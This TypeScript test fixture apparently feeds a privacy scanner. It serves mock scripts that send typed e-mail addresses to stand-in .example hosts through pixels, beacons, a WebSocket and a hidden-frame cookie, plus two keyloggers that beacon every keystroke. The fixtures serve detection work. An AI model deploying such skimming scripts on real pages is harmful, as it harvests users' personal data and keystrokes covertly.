// Own-written stand-ins for scripts that read form fields: four that take the e-mail along when a field is left, each in
// another place and form, and one that keeps what it reads inside its own frame.
import { createHash } from 'node:crypto'
import { html, pixel, type Site, script } from '../site'

const DIGEST = `async function digest(text) {
  var bytes = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text));
  return Array.from(new Uint8Array(bytes), function (b) { return b.toString(16).padStart(2, '0') }).join('')
}`
const onLeave = (work: string) => `(function () {
  document.addEventListener('change', function (event) {
    var field = event.target, value = field.value;
    if (field.type === 'email' && value.indexOf('@') > 0) { ${work} }
  }, true)
  ${DIGEST}
})()`

/** The e-mail in the clear, in the address of a pixel. */
export const plainReader: Site = {
  hosts: ['px.plainmail.example'],
  answer: ({ path }) =>
    path.endsWith('.js')
      ? script(
          onLeave(
            `new Image().src = 'https://px.plainmail.example/p?ev=field&em=' + encodeURIComponent(value)`,
          ),
        )
      : pixel(),
}

/** SHA-256 of the lower-cased e-mail in a beacon's body, as matching services ask for it. */
export const scramblingReader: Site = {
  hosts: ['b.scramblehub.example'],
  answer: ({ path }) =>
    path.endsWith('.js')
      ? script(
          onLeave(
            `digest(value.trim().toLowerCase()).then(function (h) { navigator.sendBeacon('https://b.scramblehub.example/m', JSON.stringify({ ud: { em: h } })) })`,
          ),
        )
      : { status: 204 },
}

/** Base64 of JSON over a WebSocket. */
export const socketReader: Site = {
  hosts: ['live.socketform.example'],
  answer: () =>
    script(`var line = new WebSocket('wss://live.socketform.example/s');
${onLeave(`line.send(btoa(JSON.stringify({ field: field.name, v: value })))`)}`),
}

/** MD5 in a cookie of its own, handed over by a frame and sent with every further request. */
export const cookieReader: Site = {
  hosts: ['id.cookiematch.example'],
  answer({ path, query }) {
    if (path.endsWith('.js'))
      return script(
        onLeave(`var frame = document.createElement('iframe');
frame.style.display = 'none';
frame.src = 'https://id.cookiematch.example/frame';
frame.onload = function () { frame.contentWindow.postMessage(value, '*') };
document.body.append(frame)`),
      )
    if (path === '/frame')
      return html(`<!doctype html><script>${MD5}
addEventListener('message', function (event) {
  document.cookie = 'hem=' + md5(event.data.toLowerCase()) + '; Secure; SameSite=None; Partitioned; Path=/';
  setTimeout(function () { new Image().src = '/hit.gif?t=1' }, 50)
})</script>`)
    return query.has('t') ? pixel() : undefined
  },
}

/** Every key: the value so far, letter by letter. */
export const keyReader: Site = {
  hosts: ['k.keyfollow.example'],
  answer: ({ path }) =>
    path.endsWith('.js')
      ? script(`document.addEventListener('input', function (event) {
  if (event.target.type === 'email') navigator.sendBeacon('https://k.keyfollow.example/k', JSON.stringify({ t: Date.now(), v: event.target.value }))
}, true)`)
      : { status: 204 },
}

/** Every key by itself, as it is let go, in the address of a pixel. */
export const singleKeyReader: Site = {
  hosts: ['s.singlekeys.example'],
  answer: ({ path }) =>
    path.endsWith('.js')
      ? script(`document.addEventListener('keyup', function (event) {
  new Image().src = 'https://s.singlekeys.example/p?t=' + Date.now() + '&k=' + encodeURIComponent(event.key)
}, true)`)
      : pixel(),
}

/** Completes addresses while they are typed: it cannot work otherwise. */
export const places: Site = {
  hosts: ['api.streetfinder.example'],
  answer: ({ path }) =>
    path.endsWith('.js')
      ? script(`document.addEventListener('input', function (event) {
  if (event.target.name === 'street') fetch('https://api.streetfinder.example/suggest?text=' + encodeURIComponent(event.target.value))
}, true)`)
      : { type: 'application/json', body: '[]' },
}

/** A sign-up widget: its field stands in its own frame, and only its own server hears of it. */
export const widget: Site = {
  hosts: ['forms.quietwidget.example'],
  answer({ path }) {
    if (path === '/form')
      return html(`<!doctype html><form><input type="email" name="email" placeholder="E-mail"></form><script>
document.querySelector('input').addEventListener('change', function (event) {
  fetch('/check?email=' + encodeURIComponent(event.target.value))
})</script>`)
    return path === '/check' ? { type: 'application/json', body: '{"ok":true}' } : undefined
  },
}

/** MD5 (RFC 1321) for the page, own-written and short; the test holds it against Node's. */
const MD5 = `function md5(text) {
  var bytes = Array.from(new TextEncoder().encode(text)), length = bytes.length * 8, i;
  var k = Array.from({ length: 64 }, function (_, i) { return Math.floor(Math.abs(Math.sin(i + 1)) * 4294967296) });
  var turns = [7, 12, 17, 22, 5, 9, 14, 20, 4, 11, 16, 23, 6, 10, 15, 21];
  bytes.push(128); while (bytes.length % 64 !== 56) bytes.push(0);
  for (i = 0; i < 8; i++) bytes.push(i < 4 ? (length >>> (8 * i)) & 255 : 0);
  var h = [1732584193, 4023233417, 2562383102, 271733878];
  for (var at = 0; at < bytes.length; at += 64) {
    var w = Array.from({ length: 16 }, function (_, i) { var p = at + 4 * i; return bytes[p] | bytes[p + 1] << 8 | bytes[p + 2] << 16 | bytes[p + 3] << 24 });
    var a = h[0], b = h[1], c = h[2], d = h[3];
    for (i = 0; i < 64; i++) {
      var round = i >> 4, f, g;
      if (round === 0) { f = b & c | ~b & d; g = i } else if (round === 1) { f = d & b | ~d & c; g = (5 * i + 1) % 16 }
      else if (round === 2) { f = b ^ c ^ d; g = (3 * i + 5) % 16 } else { f = c ^ (b | ~d); g = 7 * i % 16 }
      var sum = (a + f + k[i] + w[g]) | 0, turn = turns[round * 4 + i % 4];
      a = d; d = c; c = b; b = (b + (sum << turn | sum >>> (32 - turn))) | 0
    }
    h = [h[0] + a, h[1] + b, h[2] + c, h[3] + d]
  }
  return h.map(function (n) { var hex = ''; for (var i = 0; i < 4; i++) hex += ((n >>> (8 * i)) & 255).toString(16).padStart(2, '0'); return hex }).join('')
}`

/** The page's MD5, run here, agrees with Node's. */
export const md5Agrees = (text: string): boolean =>
  new Function(`${MD5}; return md5(${JSON.stringify(text)})`)() ===
  createHash('md5').update(text).digest('hex')
